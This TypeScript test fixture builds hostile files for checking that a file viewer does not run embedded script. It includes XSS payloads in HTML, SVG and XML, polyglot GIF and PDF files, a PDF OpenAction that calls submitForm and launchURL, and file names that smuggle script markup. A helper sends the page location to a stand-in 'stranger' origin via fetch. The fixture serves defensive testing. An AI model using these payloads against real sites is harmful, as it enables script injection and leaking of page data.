import { hostileSvgs } from './svg.ts'

/**
 * Files by name whose contents or names try to run a script in the page that shows them. A script that runs sets
 * `globalThis.pwned`, opens a dialog and sends a request to `stranger`, an origin.
 */
export function hostileFiles(stranger: string): Record<string, string | Buffer> {
  const script = hostileScript(stranger)
  return {
    'page.html': `<!doctype html>${script}<img src=x onerror="alert(1)">`,
    'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
    'page.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}<image href="${stranger}/a.png"/></svg>`,
    'page.xml': `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml">${script}</x>`,
    'named.pdf': `<!doctype html>${script}`,
    'named.png': `<!doctype html>${script}`,
    'polyglot.gif': `GIF89a/*${script}*/=1;alert('pwned')`,
    'polyglot.pdf': `%PDF-1.4\n${script}`,
    'action.pdf': `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.submitForm\\('${stranger}'\\);app.launchURL\\('${stranger}'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>`,
    'script.js': `alert('pwned')`,
    '<img src=x onerror=alert(1)>.txt': script,
    '"><script>alert(1)<\u2215script>.md': `![x](javascript:alert(1)) ${script}`,
    [`' onmouseover='alert(1)' ";alert(1);".txt`]: script,
    'חשבון "<b>gpj.exe.txt': script,
    ...hostileSvgs,
  }
}

export function hostileScript(stranger: string): string {
  return `<script>globalThis.pwned = true; alert('pwned'); fetch('${stranger}/?from=' + location)</script>`
}
